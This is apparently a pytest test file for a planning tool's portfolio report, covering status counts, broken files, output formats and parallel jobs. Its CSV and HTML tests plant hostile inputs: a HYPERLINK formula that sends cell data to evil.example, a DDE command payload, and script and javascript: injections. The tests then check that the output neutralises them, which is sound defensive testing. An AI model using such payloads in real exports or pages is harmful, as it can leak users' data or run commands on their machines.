"""`spreadkit portfolio`: one page across many plans, its figures, broken files, formats, --jobs."""

from __future__ import annotations

import csv
import datetime as dt
import io
import re
import shutil
from pathlib import Path
from typing import Any

import pytest
import yaml

from spreadkit.app import portfolio_scan
from spreadkit.core.errors import SpreadkitError
from spreadkit.plan.views import portfolio_rows as model

from .conftest import NORTHFIELD

DUMPER = getattr(yaml, "CSafeDumper", yaml.SafeDumper)


def _base() -> dict[str, Any]:
    return yaml.safe_load(NORTHFIELD.read_text(encoding="utf-8"))


def _write(folder: Path, name: str, data: dict[str, Any]) -> Path:
    path = folder / f"{name}.answers.yml"
    path.parent.mkdir(parents=True, exist_ok=True)
    text = yaml.dump(data, Dumper=DUMPER, sort_keys=False, allow_unicode=True)
    path.write_text(text, encoding="utf-8")
    return path


def _quiet(data: dict[str, Any]) -> dict[str, Any]:
    """Every site live at its target, every action done, every risk closed: nothing to worry
    about."""
    ready, implement = data["answers"]["ready"], data["answers"]["implement"]
    for site in ready["sites"]:
        site.update(status="live", golive_actual=site["golive_planned"], actual=site["target"])
    for action in implement["actions"]:
        action["status"] = "done"
    for risk in implement["risks"]:
        risk["status"] = "closed"
    return data


@pytest.fixture(scope="module")
def known_plans(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """Five plans whose status and phase are known from how they are made."""
    folder = tmp_path_factory.mktemp("known") / "plans"
    # Off track: a site is past its go-live on 15 July 2027 (Wave 1); an Extreme risk is open.
    _write(folder, "north", _base())
    # On track: the same plan with nothing outstanding.
    _write(folder / "team-b", "calm", _quiet(_base()))
    # At risk: one action overdue (due before the plan's date, not done), nothing worse.
    late = _quiet(_base())
    late["answers"]["implement"]["actions"][1]["status"] = "in-progress"
    late["plan"]["title"] = "Late plan"
    _write(folder / "team-b", "late", late)
    # Not enough to judge: no sites, actions, risks or phases; and a check-in on 1 March 2027.
    bare = _base()
    bare["plan"]["title"] = "Bare plan"
    for question in ("sites", "phases"):
        del bare["answers"]["ready"][question]
    for question in ("actions", "risks"):
        del bare["answers"]["implement"][question]
    del bare["answers"]["analyse"]["aim_by"]  # and no date to judge the aim's progress by
    bare["checkins"] = [{"date": dt.date(2027, 3, 1), "note": "first look"}]
    _write(folder, "bare", bare)
    # At risk, judged on its own latest check-in (1 December 2026: the Pilot phase): no site is
    # late yet, nothing is overdue, but Extreme risks are open and an action is blocked.
    early = _base()
    early["plan"]["title"] = "Early plan"
    early["checkins"] = [
        {"date": dt.date(2026, 11, 1)},
        {"date": dt.date(2026, 12, 1), "note": "Quarter review"},
    ]
    _write(folder, "early", early)
    return folder


@pytest.fixture
def plans(known_plans: Path, tmp_path: Path) -> Path:
    """A copy of the five known plans, for a test to add to."""
    return Path(shutil.copytree(known_plans, tmp_path / "plans"))


def _build(*paths: Path, **options: Any) -> model.Portfolio:
    return portfolio_scan.build(
        portfolio_scan.PortfolioOptions(tuple(str(p) for p in paths), **options), None
    )


def test_summary_counts_plans_by_status_and_by_phase(plans: Path) -> None:
    portfolio = _build(plans, jobs=1)
    assert portfolio.count == 5 and not portfolio.failures
    by_status = {group.key: group.count for group in portfolio.by_status}
    assert by_status == {"off-track": 1, "at-risk": 2, "on-track": 1, "unknown": 1}
    by_phase = {group.label: group.count for group in portfolio.by_phase}
    assert by_phase == {"Pilot": 1, "Wave 1": 3, model.NO_PHASES: 1}
    lines = {plan.title: plan for plan in portfolio.plans}
    early = lines["Early plan"]
    assert (early.last_checkin, early.as_of, early.phase) == (
        "1 December 2026",
        "1 December 2026",
        "Pilot",
    )
    assert early.reasons == ("1 action blocked", "2 open risks rated Extreme", "1 open issue")
    late = lines["Late plan"]
    assert late.status == "at-risk" and late.overdue_count == 1
    assert late.reasons == ("1 of 1 open actions overdue",)
    calm = next(p for p in portfolio.plans if p.source.endswith("calm.answers.yml"))
    assert (calm.sites_live, calm.sites_planned, calm.status) == (8, 8, "on-track")
    north = next(p for p in portfolio.plans if p.source.endswith("north.answers.yml"))
    assert north.sites_live == 4 and north.risks[0].endswith("score 16 (Extreme)")
    assert north.status == "off-track" and "1 site behind go-live" in north.reasons
    # 7 posts against 10 planned (five networks planned live by 15 July 2027, 2 posts each):
    # 3 short, 30% of 10, beyond the 10% adoption tolerance.
    assert north.reasons[0] == (
        "progress 7 posts against 10 posts planned by now from the sites' go-live dates "
        "(30% short, adoption tolerance 10%)"
    )
    assert north.exceptions == (north.reasons[0],)


def test_a_plan_has_the_same_status_in_the_portfolio_and_its_board_report(plans: Path) -> None:
    """One rule for both pages (plan.health): red, amber and green are off track, at risk and on
    track."""
    from spreadkit.answers.loading import read_answers
    from spreadkit.framework.content import load_framework
    from spreadkit.plan.views import report

    framework = load_framework()
    words = {"off-track": "Red", "at-risk": "Amber", "on-track": "Green"}
    for line in _build(plans, jobs=1).plans:
        if line.status == "unknown":
            continue
        answers = read_answers(Path(line.source), framework)
        board = report.build(framework, answers)
        assert board.status_label.startswith(words[line.status]), line.source
        assert tuple(board.reasons) == line.reasons or line.status == "on-track"


def test_as_of_judges_every_plan_on_one_date(plans: Path) -> None:
    portfolio = _build(plans, jobs=1, as_of="2026-10-15")
    assert {p.phase for p in portfolio.plans} == {"Pilot", model.NO_PHASES}
    assert {p.as_of for p in portfolio.plans} == {"15 October 2026"}


def test_broken_files_are_listed_with_their_errors_and_the_rest_render(
    plans: Path, cli, tmp_path: Path
) -> None:
    (plans / "syntax.answers.yml").write_text("plan:\n  title: x\n title: y\n", encoding="utf-8")
    bad_value = _base()
    bad_value["answers"]["analyse"]["evidence_strength"] = "anecdotl"
    _write(plans, "value", bad_value)
    page = tmp_path / "site" / "index.html"
    result = cli("portfolio", str(plans), "--output", str(page), "--jobs", "1")
    assert result.exit_code == 0, result.output
    html = page.read_text(encoding="utf-8")
    assert html.count('<article class="plan"') == 5
    syntax, value = str(plans / "syntax.answers.yml"), str(plans / "value.answers.yml")
    assert f"{syntax}:3: not valid YAML" in html
    assert f"{value}:" in html and "&#39;anecdotl&#39; is not one of the choices" in html
    assert "2 of 7 answers files could not be read" in result.stderr
    assert f"{syntax}:3:" in result.stderr
    assert "<strong>2</strong> files not read" in html
    (plans / "value.answers.yml").unlink()
    assert cli("portfolio", str(plans), "--output", str(page), "--force").exit_code == 0
    assert "<strong>1</strong> file not read" in page.read_text(encoding="utf-8")  # not "1 files"


def test_csv_neutralises_formulas_and_keeps_numbers(plans: Path, tmp_path: Path) -> None:
    hostile = _base()
    hostile["plan"]["title"] = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
    hostile["plan"]["lead"] = "+44 cmd|' /C calc'!A0"
    _write(plans, "hostile", hostile)
    (plans / "@broken.answers.yml").write_text("answers: [", encoding="utf-8")
    text = portfolio_scan.render(_build(plans, jobs=1), "csv")
    rows = list(csv.DictReader(io.StringIO(text)))
    row = next(r for r in rows if r["File"].endswith("hostile.answers.yml"))
    assert row["Title"].startswith("'=HYPERLINK(")
    assert row["Lead"].startswith("'+44")
    assert row["Sites live"] == "4" and row["Overdue actions"] == "2"
    broken = next(r for r in rows if r["Error"])
    assert broken["File"].endswith("@broken.answers.yml") and broken["Error"].startswith(str(plans))
    assert not any(
        cell.startswith(("=", "+", "-", "@")) for r in rows for cell in r.values() if cell
    )


@pytest.mark.parametrize("fmt", ["html", "md", "csv"])
def test_one_process_and_two_give_the_same_page(plans: Path, fmt: str) -> None:
    one = portfolio_scan.render(_build(plans, jobs=1), fmt)
    two = portfolio_scan.render(_build(plans, jobs=2), fmt)
    assert one == two
    assert (
        portfolio_scan.render(_build(plans, jobs=2), fmt) == two
    )  # and the same again: reproducible


def test_workers_started_by_spawn_as_on_windows(plans: Path) -> None:
    one = portfolio_scan.render(_build(plans, jobs=1), "md")
    assert portfolio_scan.render(_build(plans, jobs=2, start_method="spawn"), "md") == one


def test_cli_writes_markdown_with_links_to_the_plans(plans: Path, cli, tmp_path: Path) -> None:
    (plans / "north.plan.html").write_text("a plan", encoding="utf-8")
    out = tmp_path / "out" / "portfolio.md"
    result = cli("portfolio", str(plans), "-o", str(out), "--jobs", "2")
    assert result.exit_code == 0, result.output
    text = out.read_text(encoding="utf-8")
    assert "| Off track | 1 |" in text and "| At risk | 2 |" in text
    assert "](../plans/north.plan.html)" in text  # beside its answers file: linked
    assert "](../plans/bare.answers.yml)" in text  # no plan there: the answers file
    (out.parent / "bare.plan.html").write_text("rendered beside the page", encoding="utf-8")
    assert cli("portfolio", str(plans), "-o", str(out)).exit_code == 0  # its own: replaced
    assert "](bare.plan.html)" in out.read_text(encoding="utf-8")  # the plan beside the page
    # a file that is not spreadkit's is not overwritten without --force
    (tmp_path / "mine.html").write_text("mine", encoding="utf-8")
    refused = cli("portfolio", str(plans), "-o", str(tmp_path / "mine.html"))
    assert refused.exit_code == 1 and "not overwritten" in refused.stderr


def test_html_page_is_self_contained_and_names_cannot_make_links(plans: Path) -> None:
    odd = _base()
    odd["plan"]["title"] = "<script>alert(1)</script>"
    _write(plans, "javascript:alert(1)", odd)
    html = portfolio_scan.render(_build(plans, jobs=1), "html")
    head = html[: html.index("</head>")]
    assert (
        html.startswith("<!DOCTYPE html>")
        and head.count('http-equiv="Content-Security-Policy"') == 1
    )
    assert head.index("Content-Security-Policy") < head.index("<style")
    assert "<script" not in html and "&lt;script&gt;alert(1)&lt;/script&gt;" in html
    assert 'href="javascript' not in html and "javascript%3Aalert%281%29.answers.yml" in html
    assert '<details id="status-off-track" open>' in html
    assert '<details id="status-on-track">' in html  # the plans needing no attention: closed


def test_usage_mistakes(cli, plans: Path, tmp_path: Path) -> None:
    missing = cli("portfolio", str(tmp_path / "nowhere"))
    assert missing.exit_code == 2 and "no such file or folder" in missing.stderr
    empty = tmp_path / "empty"
    empty.mkdir()
    assert "no answers files found" in cli("portfolio", str(empty)).stderr
    assert cli("portfolio", str(plans), "--jobs", "0").exit_code == 2
    mismatch = cli("portfolio", str(plans), "--format", "md", "-o", str(tmp_path / "x.csv"))
    assert mismatch.exit_code == 2 and "does not match" in mismatch.stderr
    with pytest.raises(SpreadkitError):
        _build(plans, as_of="31/31/2027")


def test_render_batch_with_jobs_writes_each_plan_the_same(plans: Path, cli, tmp_path: Path) -> None:
    one, two = tmp_path / "one", tmp_path / "two"
    assert (
        cli("render", str(plans), "--out-dir", str(one), "--jobs", "1", "-f", "html").exit_code == 0
    )
    result = cli("render", str(plans), "--out-dir", str(two), "--jobs", "2", "-f", "html")
    assert result.exit_code == 0, result.output
    assert "Wrote 5 plans" in result.stderr
    assert sorted(p.name for p in two.iterdir()) == sorted(p.name for p in one.iterdir())
    for plan in one.iterdir():
        assert (two / plan.name).read_bytes() == plan.read_bytes()
    again = cli("render", str(plans), "--out-dir", str(two), "--jobs", "2", "-f", "html", "--check")
    assert again.exit_code == 0 and again.stderr.count("up to date") == 5


# The publishing steps of the CI recipe in /work/notes/portfolio.md (for docs/answers-files-and-ci.md).
CI_STEPS = (
    "spreadkit render plans --out-dir site --format html",
    "spreadkit portfolio plans --output site/index.html",
)


def test_the_ci_publishing_steps_make_a_site_whose_links_work(
    cli, known_plans: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    shutil.copytree(known_plans, tmp_path / "plans")
    monkeypatch.chdir(tmp_path)
    assert [cli(*step.split()[1:]).exit_code for step in CI_STEPS] == [0, 0]
    page = (tmp_path / "site" / "index.html").read_text(encoding="utf-8")
    links = re.findall(r'<h3><a href="([^"#]+)"', page)
    assert len(links) == 5
    assert all((tmp_path / "site" / link).is_file() for link in links)
    assert all(link.endswith(".plan.html") and "/" not in link for link in links)
